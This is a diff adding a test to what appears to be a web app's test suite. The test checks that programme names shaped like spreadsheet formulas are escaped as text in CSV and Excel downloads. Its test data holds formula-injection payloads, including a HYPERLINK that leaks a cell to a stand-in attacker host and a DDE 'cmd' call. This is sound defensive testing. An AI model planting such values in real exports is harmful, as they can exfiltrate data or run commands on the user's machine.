@@ -208,3 +208,23 @@ def test_the_reports_index_and_nav(app, db_session, portfolio):
     assert supplier.get("/reports/").status_code == 403
     assert 'href="/reports/"' not in supplier.get("/dashboard").get_data(as_text=True)
     assert app.test_client().get("/reports/").status_code == 302  # to the log-in page
+
+
+FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A2,"열기")', "＋cmd|' /C calc'!A0", "@SUM(1+1)*cmd")
+
+
+def test_a_programme_named_like_a_formula_stays_text_in_the_officers_downloads(app, db_session, portfolio):
+    from openpyxl import load_workbook
+
+    for name in FORMULA_NAMES:
+        make_programme(app, db_session, portfolio.sponsor.user, name=name, pledged_pool_krw=800_000_000)
+    db_session.commit()
+    browser = _browser(app, portfolio.officer.user)
+    path = SPONSOR_PATH.format(org=portfolio.sponsor.user.organisation_id)
+    rows = list(csv.reader(io.StringIO(browser.get(path + ".csv").text[1:])))
+    names = {row[0] for row in rows[1:]}
+    assert {"'" + name for name in FORMULA_NAMES} <= names
+    book = load_workbook(io.BytesIO(browser.get(path + ".xlsx").get_data()))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.value for cell in cells if cell.data_type == "f"]  # openpyxl stores "=…" as a formula
+    assert {"'" + name for name in FORMULA_NAMES} <= {cell.value for cell in cells}
